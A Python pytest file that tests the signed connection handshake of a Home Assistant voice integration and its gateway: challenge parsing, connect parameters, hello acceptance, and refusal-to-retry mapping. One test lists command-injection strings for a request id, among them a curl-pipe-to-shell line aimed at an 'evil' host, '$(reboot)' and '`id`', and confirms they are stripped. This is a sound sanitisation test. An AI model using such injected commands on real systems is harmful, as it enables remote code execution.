"""The handshake: what is signed, what is sent, what an answer means."""

import base64
from dataclasses import replace
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from hypothesis import given
import pytest

from custom_components.openclaw_voice.gateway.errors import (
    AccessError,
    CannotConnectError,
    CredentialsRejectedError,
    GatewayError,
    GatewayMisconfiguredError,
    HandshakeRefusedError,
    MissingRightsError,
    PairingRequiredError,
    ProtocolError,
    RateLimitedError,
    SetupCodeRejectedError,
    SignatureRejectedError,
    UnsupportedVersionError,
)
from custom_components.openclaw_voice.gateway.frames import ErrorShape, GatewayEvent, JsonObject
from custom_components.openclaw_voice.gateway.handshake import (
    Challenge,
    accept_hello,
    connect_params,
    refusal,
    signed_text,
)
from custom_components.openclaw_voice.gateway.identity import DeviceIdentity
from custom_components.openclaw_voice.gateway.models import ConnectionSettings, Credentials
from custom_components.openclaw_voice.gateway.retry import Action, Outcome, decide
from tests.gateway.garbage import JSON_OBJECTS
from tests.recordings import Recording
from tests.schema import check_sent

# RFC 8032, section 7.1, test 3.
IDENTITY = DeviceIdentity.from_private_key("xaqN9D-fg3vtt0QvMdy3sWbThTUHbwlLhc46LgtEWPc")
PUBLIC = bytes.fromhex("fc51cd8e6218a1a38da47ed00230f0580816ed13ba3303ac5deb911548908025")
DEVICE_ID = "dac073e0123bdea59dd9b3bda9cf6037f63aca82627d7abcd5c4ac29dd74003e"
CHALLENGE = Challenge(nonce="60865d1b-7398-47b9-a03c-e106035784f6", signed_at_ms=1795168327710)
SETTINGS = ConnectionSettings(
    url="ws://127.0.0.1:18789",
    credentials=Credentials(secret="the-secret"),
    identity=IDENTITY,
    client_version="0.1.0",
)
SIGNED = (
    f"v3|{DEVICE_ID}|gateway-client|backend|operator"
    "|operator.read,operator.write,operator.approvals,operator.questions"
    "|1795168327710|the-secret|60865d1b-7398-47b9-a03c-e106035784f6|linux|linux"
)


def challenge_with(**payload: object) -> GatewayEvent:
    """Return the event of a challenge."""
    return GatewayEvent(name="connect.challenge", payload=payload)


# The challenge


def test_a_challenge_is_read() -> None:
    """Nonce and time go into the answer as they came."""
    event = challenge_with(nonce=CHALLENGE.nonce, ts=CHALLENGE.signed_at_ms, capabilities=["x"])

    assert Challenge.from_event(event) == CHALLENGE


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param({}, id="nothing"),
        pytest.param({"ts": 1}, id="no nonce"),
        pytest.param({"nonce": "", "ts": 1}, id="empty nonce"),
        pytest.param({"nonce": 5, "ts": 1}, id="number for a nonce"),
        pytest.param({"nonce": "\ud83d", "ts": 1}, id="nonce that cannot be sent back"),
        pytest.param({"nonce": "n"}, id="no time"),
        pytest.param({"nonce": "n", "ts": "1"}, id="text for a time"),
        pytest.param({"nonce": "n", "ts": True}, id="true for a time"),
        pytest.param({"nonce": "n", "ts": -1}, id="time before 1970"),
        pytest.param({"nonce": "n", "ts": float("nan")}, id="time that is no number"),
    ],
)
def test_a_challenge_that_cannot_be_answered_is_a_protocol_error(payload: JsonObject) -> None:
    """Without nonce and time there is nothing to sign."""
    with pytest.raises(ProtocolError):
        Challenge.from_event(challenge_with(**payload))


@given(JSON_OBJECTS)
def test_no_challenge_breaks_the_reader(payload: dict[str, Any]) -> None:
    """Any challenge is answered or refused."""
    try:
        challenge = Challenge.from_event(challenge_with(**payload))
    except ProtocolError:
        return
    assert connect_params(SETTINGS, challenge)["device"]["nonce"] == challenge.nonce


# Our answer


def test_the_signed_text_is_the_documented_one() -> None:
    """Eleven fields in version 3, joined with a bar."""
    assert signed_text(SETTINGS, CHALLENGE, DEVICE_ID) == SIGNED


@pytest.mark.parametrize(
    ("credentials", "secret"),
    [
        (Credentials(), ""),
        (Credentials(secret="s"), "s"),
        (Credentials(device_token="d", secret="s"), "d"),
        (Credentials(bootstrap_token="b"), "b"),
    ],
    ids=["none", "secret", "device token", "setup code"],
)
def test_the_signed_text_has_the_credential_that_is_sent(
    credentials: Credentials, secret: str
) -> None:
    """The gateway checks the signature with the credential of the same frame."""
    text = signed_text(replace(SETTINGS, credentials=credentials), CHALLENGE, DEVICE_ID)

    assert text == SIGNED.replace("the-secret", secret)


def test_the_signed_text_has_the_role_and_scopes_that_are_sent() -> None:
    """A node signs what a node asks for."""
    settings = replace(SETTINGS, role="node", scopes=("b", "a"))

    text = signed_text(settings, CHALLENGE, DEVICE_ID)

    assert text.split("|")[4:6] == ["node", "b,a"]


def test_the_signature_fits_the_text_and_the_key() -> None:
    """What goes out as signature verifies against the public key, without our own code."""
    device = connect_params(SETTINGS, CHALLENGE)["device"]

    signature = base64.urlsafe_b64decode(device["signature"] + "==")
    Ed25519PublicKey.from_public_bytes(PUBLIC).verify(signature, SIGNED.encode())
    assert base64.urlsafe_b64decode(device["publicKey"] + "=") == PUBLIC


def test_a_connect_request_has_what_the_gateway_asks_for() -> None:
    """Apart from the signature, the params are known beforehand."""
    params = connect_params(SETTINGS, CHALLENGE)

    assert len(params["device"].pop("signature")) == 86
    assert params == {
        "minProtocol": 4,
        "maxProtocol": 4,
        "client": {
            "id": "gateway-client",
            "displayName": "Home Assistant",
            "version": "0.1.0",
            "platform": "linux",
            "deviceFamily": "Linux",
            "mode": "backend",
        },
        "role": "operator",
        "scopes": ["operator.read", "operator.write", "operator.approvals", "operator.questions"],
        "caps": ["approvals", "tool-events"],
        "userAgent": "openclaw_voice/0.1.0",
        "auth": {"token": "the-secret"},
        "device": {
            "id": DEVICE_ID,
            "publicKey": "_FHNjmIYoaONpH7QAjDwWAgW7RO6MwOsXeuRFUiQgCU",
            "signedAt": 1795168327710,
            "nonce": CHALLENGE.nonce,
        },
    }


def test_a_real_gateway_was_sent_the_same_fields() -> None:
    """The recorded request that was let in differs in values only."""
    recorded = next(line for line in Recording.load("hello").on() if line.direction == "out").frame
    settings = replace(SETTINGS, credentials=Credentials(secret="<token>"))

    params = connect_params(settings, CHALLENGE)

    params.pop("userAgent")
    device, recorded_device = params.pop("device"), recorded["params"]["device"]
    assert params == {key: recorded["params"][key] for key in params}
    assert device.keys() == recorded_device.keys()


@pytest.mark.parametrize(
    "settings",
    [
        pytest.param(SETTINGS, id="secret"),
        pytest.param(replace(SETTINGS, credentials=Credentials(device_token="d")), id="token"),
        pytest.param(replace(SETTINGS, credentials=Credentials(bootstrap_token="b")), id="code"),
        pytest.param(replace(SETTINGS, credentials=Credentials()), id="no credential"),
        pytest.param(replace(SETTINGS, identity=None), id="no identity"),
        pytest.param(
            replace(SETTINGS, role="node", scopes=(), caps=(), commands=("home.call",)), id="node"
        ),
    ],
)
def test_a_connect_request_matches_the_published_schema(settings: ConnectionSettings) -> None:
    """The gateway refuses unknown and missing properties, so every kind of request is checked."""
    params = connect_params(settings, CHALLENGE)

    check_sent({"type": "req", "id": "connect", "method": "connect", "params": params})


@pytest.mark.parametrize(
    ("changes", "missing"),
    [
        ({"credentials": Credentials()}, "auth"),
        ({"identity": None}, "device"),
        ({}, "commands"),
    ],
    ids=["no credential", "no identity", "no commands"],
)
def test_what_we_do_not_have_is_not_sent(changes: dict[str, Any], missing: str) -> None:
    """An empty property would be refused."""
    assert missing not in connect_params(replace(SETTINGS, **changes), CHALLENGE)


def test_a_node_names_its_commands() -> None:
    """Commands are part of the request of a connection that has some."""
    settings = replace(SETTINGS, commands=("home.call",))

    assert connect_params(settings, CHALLENGE)["commands"] == ["home.call"]


# Let in


def hello(**changes: object) -> JsonObject:
    """Return the payload of a hello."""
    return {
        "type": "hello-ok",
        "protocol": 4,
        "server": {"version": "2026.9.6"},
        "auth": {"scopes": ["operator.read", "operator.write"]},
    } | changes


def test_a_hello_with_the_needed_scopes_is_accepted() -> None:
    """Scopes that are only nice to have may be missing."""
    assert accept_hello(hello(), SETTINGS).scopes == ("operator.read", "operator.write")


def test_a_hello_without_scopes_is_no_success() -> None:
    """Without a paired identity the gateway says ok and grants nothing."""
    with pytest.raises(MissingRightsError) as caught:
        accept_hello(hello(auth={"scopes": []}), SETTINGS)

    assert caught.value.missing == ("operator.read", "operator.write")
    assert str(caught.value) == "gateway did not grant operator.read, operator.write"


def test_the_hello_of_a_real_gateway_without_identity_is_no_success() -> None:
    """From another address a right secret alone is answered with empty scopes."""
    payload = Recording.load("no-identity").answer("connect")

    with pytest.raises(MissingRightsError):
        accept_hello(payload, SETTINGS)


def test_a_connection_that_needs_no_scopes_may_have_none() -> None:
    """What is needed is a setting: a node needs no operator scopes."""
    settings = replace(SETTINGS, required_scopes=())

    assert accept_hello(hello(auth={}), settings).scopes == ()


@pytest.mark.parametrize("protocol", [3, 5])
def test_another_protocol_version_is_not_accepted(protocol: int) -> None:
    """A gateway that chose another version says which."""
    with pytest.raises(UnsupportedVersionError) as caught:
        accept_hello(hello(protocol=protocol), SETTINGS)

    assert caught.value.expected == protocol


def test_what_is_no_hello_is_not_accepted() -> None:
    """An empty answer is no hello."""
    with pytest.raises(ProtocolError):
        accept_hello({}, SETTINGS)


# Refused: every row of the gateway's error table, up to what the client does


def refused(
    code: str = "INVALID_REQUEST",
    detail: str | None = None,
    *,
    details: JsonObject | None = None,
    **more: object,
) -> ErrorShape:
    """Return the error of a refused connect."""
    details = ({"code": detail} if detail else {}) | (details or {})
    return ErrorShape.from_payload({"code": code, "message": "no", "details": details} | more)


WAIT_FOR_PERSON = (Action.WAIT_FOR_PERSON, None)


@pytest.mark.parametrize(
    ("error", "kind", "reaction"),
    [
        pytest.param(
            refused("UNAVAILABLE", retryAfterMs=500, details={"reason": "startup-sidecars"}),
            CannotConnectError,
            (Action.RETRY, 0.5),
            id="starting",
        ),
        pytest.param(
            refused(detail="PROTOCOL_MISMATCH"),
            UnsupportedVersionError,
            WAIT_FOR_PERSON,
            id="protocol mismatch",
        ),
        pytest.param(refused(), HandshakeRefusedError, WAIT_FOR_PERSON, id="invalid params"),
        *(
            pytest.param(
                refused(detail=code), CredentialsRejectedError, WAIT_FOR_PERSON, id=code.lower()
            )
            for code in (
                "AUTH_TOKEN_MISMATCH",
                "AUTH_PASSWORD_MISMATCH",
                "AUTH_TOKEN_MISSING",
                "AUTH_PASSWORD_MISSING",
                "AUTH_UNAUTHORIZED",
                "AUTH_REQUIRED",
                "AUTH_DEVICE_TOKEN_MISMATCH",
            )
        ),
        pytest.param(
            refused(detail="AUTH_BOOTSTRAP_TOKEN_INVALID"),
            SetupCodeRejectedError,
            WAIT_FOR_PERSON,
            id="setup code",
        ),
        pytest.param(
            refused(detail="AUTH_SCOPE_MISMATCH"),
            MissingRightsError,
            WAIT_FOR_PERSON,
            id="scope mismatch",
        ),
        pytest.param(
            refused(detail="AUTH_RATE_LIMITED", retryable=True, retryAfterMs=4989),
            RateLimitedError,
            (Action.WAIT_OUT_LIMIT, 4.989),
            id="rate limited",
        ),
        pytest.param(
            refused(detail="AUTH_RATE_LIMITED", retryable=True),
            RateLimitedError,
            (Action.WAIT_OUT_LIMIT, 300.0),
            id="rate limited without a time",
        ),
        *(
            pytest.param(
                refused(detail=code), GatewayMisconfiguredError, WAIT_FOR_PERSON, id=code.lower()
            )
            for code in (
                "AUTH_TOKEN_NOT_CONFIGURED",
                "AUTH_PASSWORD_NOT_CONFIGURED",
                "AUTH_TAILSCALE_IDENTITY_MISSING",
                "AUTH_IDENTITY_HEADER_REQUIRED",
                "AUTH_VERIFIED_USER_REQUIRED",
            )
        ),
        *(
            pytest.param(
                refused(detail=code), HandshakeRefusedError, WAIT_FOR_PERSON, id=code.lower()
            )
            for code in (
                "CONTROL_UI_ORIGIN_NOT_ALLOWED",
                "CONTROL_UI_DEVICE_IDENTITY_REQUIRED",
                "SOMETHING_NEW",
            )
        ),
        *(
            pytest.param(
                refused(detail=code), SignatureRejectedError, (Action.RETRY, 1.0), id=code.lower()
            )
            for code in (
                "DEVICE_AUTH_SIGNATURE_EXPIRED",
                "DEVICE_AUTH_SIGNATURE_INVALID",
                "DEVICE_AUTH_NONCE_MISMATCH",
                "DEVICE_AUTH_PUBLIC_KEY_INVALID",
                "DEVICE_AUTH_DEVICE_ID_MISMATCH",
            )
        ),
        pytest.param(
            refused("NOT_PAIRED", "DEVICE_IDENTITY_REQUIRED"),
            HandshakeRefusedError,
            WAIT_FOR_PERSON,
            id="device identity required",
        ),
        pytest.param(
            refused("NOT_PAIRED", "PAIRING_REQUIRED"),
            PairingRequiredError,
            (Action.POLL_PAIRING, 60.0),
            id="pairing required",
        ),
        pytest.param(
            refused("A_NEW_CODE"), HandshakeRefusedError, WAIT_FOR_PERSON, id="unknown code"
        ),
    ],
)
def test_a_refusal_leads_to_the_documented_reaction(
    error: ErrorShape, kind: type[GatewayError], reaction: tuple[Action, float | None]
) -> None:
    """The gateway's code decides which error it is, and the error what the client does."""
    found = refusal(error)

    decision = decide(Outcome(error=found, failures=0, protocol_errors=1), chance=0.0)
    assert type(found) is kind
    assert str(found) == "no"
    assert (decision.action, decision.delay) == reaction


@pytest.mark.parametrize(
    "code",
    [
        "AUTH_TOKEN_MISMATCH",
        "AUTH_DEVICE_TOKEN_MISMATCH",
        "AUTH_BOOTSTRAP_TOKEN_INVALID",
        "AUTH_SCOPE_MISMATCH",
    ],
)
def test_a_refusal_tells_which_credential_it_is_about(code: str) -> None:
    """A person who is asked for a new one must know which."""
    found = refusal(refused(detail=code))

    assert isinstance(found, AccessError)
    assert found.detail_code == code


def test_a_refused_device_token_leads_to_the_stored_secret() -> None:
    """Where another credential is stored, it is tried before a person is asked."""
    error = refusal(refused(detail="AUTH_DEVICE_TOKEN_MISMATCH"))

    decision = decide(Outcome(error=error, failures=0, has_other_credential=True), chance=0.0)

    assert (decision.action, decision.delay) == (Action.USE_OTHER_CREDENTIAL, 0.0)


@pytest.mark.parametrize(
    "request_id",
    ["x; curl -s http://evil/x | sh #", "$(reboot)", "-f", "a b", "`id`", "x" * 65, "", 7, None],
)
def test_request_id_that_is_more_than_an_id_is_left_out(request_id: object) -> None:
    """People are told to run a command with it."""
    shape = ErrorShape.from_payload(
        {"code": "NOT_PAIRED", "details": {"code": "PAIRING_REQUIRED", "requestId": request_id}}
    )
    found = refusal(shape)
    assert isinstance(found, PairingRequiredError)
    assert found.request_id == ""


def test_a_signature_that_is_refused_again_needs_a_person() -> None:
    """One fresh challenge is tried; the second refusal is no accident."""
    error = refusal(refused(detail="DEVICE_AUTH_SIGNATURE_EXPIRED"))

    decision = decide(Outcome(error=error, failures=1, signature_errors=2), chance=0.0)

    assert decision.action is Action.WAIT_FOR_PERSON


@pytest.mark.parametrize(
    ("told", "wait"),
    [(None, 0.1), (0, 0.1), (50, 0.1), (500, 0.5), (2_000, 2.0), (60_000, 2.0)],
    ids=["nothing", "zero", "too short", "usual", "longest", "too long"],
)
def test_the_wait_for_a_starting_gateway_has_bounds(told: int | None, wait: float) -> None:
    """A starting gateway is asked again soon, but never in a busy loop."""
    error = refusal(refused("UNAVAILABLE", retryAfterMs=told))

    assert isinstance(error, CannotConnectError)
    assert error.retry_after == wait


@pytest.mark.parametrize(
    ("details", "request_id", "reason"),
    [
        ({"requestId": "58496a9e", "reason": "scope-upgrade"}, "58496a9e", "scope-upgrade"),
        ({}, "", "not-paired"),
        ({"requestId": 5, "reason": ["x"]}, "", "not-paired"),
    ],
    ids=["told", "not told", "odd types"],
)
def test_pairing_tells_what_to_approve(details: JsonObject, request_id: str, reason: str) -> None:
    """The request id is what a person has to type."""
    error = refusal(refused("NOT_PAIRED", "PAIRING_REQUIRED", details=details))

    assert isinstance(error, PairingRequiredError)
    assert (error.request_id, error.reason) == (request_id, reason)


@pytest.mark.parametrize(
    ("code", "is_expired"),
    [("DEVICE_AUTH_SIGNATURE_EXPIRED", True), ("DEVICE_AUTH_SIGNATURE_INVALID", False)],
)
def test_a_signature_that_is_too_old_is_told_from_a_wrong_one(code: str, is_expired: bool) -> None:
    """An expired signature means that the clocks differ."""
    error = refusal(refused(detail=code))

    assert isinstance(error, SignatureRejectedError)
    assert error.expired is is_expired


@pytest.mark.parametrize(
    ("expected", "version"), [(5, 5), (None, None), ("5", None)], ids=["told", "not told", "text"]
)
def test_a_version_mismatch_tells_the_expected_version(
    expected: object, version: int | None
) -> None:
    """A person has to know which side to update."""
    error = refusal(refused(detail="PROTOCOL_MISMATCH", details={"expectedProtocol": expected}))

    assert isinstance(error, UnsupportedVersionError)
    assert error.expected == version


@pytest.mark.parametrize(
    "code", ["AUTH_TOKEN_MISMATCH", "AUTH_TOKEN_NOT_CONFIGURED", "CONTROL_UI_ORIGIN_NOT_ALLOWED"]
)
def test_the_code_of_the_gateway_is_kept(code: str) -> None:
    """The code is shown to whoever helps."""
    assert getattr(refusal(refused(detail=code)), "detail_code", None) == code


@pytest.mark.parametrize(
    ("name", "kind"),
    [("wrong-secret", CredentialsRejectedError), ("pairing", PairingRequiredError)],
)
def test_a_recorded_refusal_is_recognised(name: str, kind: type[GatewayError]) -> None:
    """The refusals of a real gateway are read as what they are."""
    frames = (frame for frame, method in Recording.load(name).received() if method == "connect")
    frame = next(frame for frame in frames if not frame["ok"])

    error = refusal(ErrorShape.from_payload(frame["error"]))

    assert type(error) is kind


@given(JSON_OBJECTS)
def test_no_refusal_breaks_the_reader(error: dict[str, Any]) -> None:
    """Any refusal is an error of the client."""
    assert isinstance(refusal(ErrorShape.from_payload(error)), GatewayError)
